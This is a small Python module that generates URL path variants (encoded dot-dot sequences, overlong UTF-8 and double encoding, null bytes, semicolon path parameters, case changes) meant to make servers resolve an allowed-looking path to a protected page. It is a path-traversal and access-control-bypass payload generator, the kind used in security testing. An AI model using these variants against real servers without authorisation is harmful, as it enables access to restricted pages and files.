"""Ways of writing a path that lead some server or other to another page than the one a reader expects."""

UP = ("..", "%2e%2e", ".%2e", "%2E.", "..;", "..;a=b", "%2e%2e;", ".;/..", "..%3b", "..%00", "%252e%252e", "..%252f..",
      "%c0%ae%c0%ae", "..\\..", "..%5c..", ".%09.", "..%20", "..#", "..%23", "..%3f", "%2e%2e%3bx")
SLASH = ("/", "//", "%2f", "%2F", "\\", "%5c", "%5C", "/./", "/;/", "/.;x/", "%252f", "%c0%af", "/%2e/", "///", "/;a=b/")
ENDING = ("", ";", ";x=1", ";jsessionid=0A1B", "%3b", "/.", "/;", "%00", "%2500", "%23", "#x", "%3fx", "\\", "%5c", "//")


def disguises(start, wanted):
    """Targets that begin as `start`, which one may, or are `wanted` in disguise: each may be read as `wanted` ("/a/b")."""
    first, rest = wanted.strip("/").split("/", 1)
    made = [f"{start}{up}{slash}{first}/{rest}" for up in UP for slash in SLASH[:8]]
    made += [f"{start.rstrip('/')}{slash}{up}/{first}/{rest}" for slash in SLASH for up in UP[:5]]
    made += [f"/{first}{ending}/{rest}" for ending in ENDING]
    made += [f"/{first}{slash}{rest}" for slash in SLASH]
    made += [f"{slash}{first}/{rest}" for slash in SLASH if slash.startswith(("/", "\\"))]
    made += [f"//{start.strip('/')}{slash}{first}/{rest}" for slash in SLASH[:7]]
    made += [f"/{first}/{rest}{ending}" for ending in ENDING]
    made += [f"/{one}/{rest}" for one in (first.upper(), first.capitalize(), f"{first[:-1]}{first[-1].upper()}")]
    made += [f"{slash}{first.upper()}{slash}{rest.upper()}" for slash in ("/", "//", "/./", "/;/")]
    made += [f"/{first}/{rest}/", f"/{first}", f"/{first.upper()}/", f"/%{ord(first[0].upper()):02x}{first[1:]}/{rest}"]
    made += [f"/%{ord(first[0]):02x}{first[1:]}/{rest}", f"/%25{ord(first[0]):02x}{first[1:]}/{rest}"]
    return sorted(set(made))
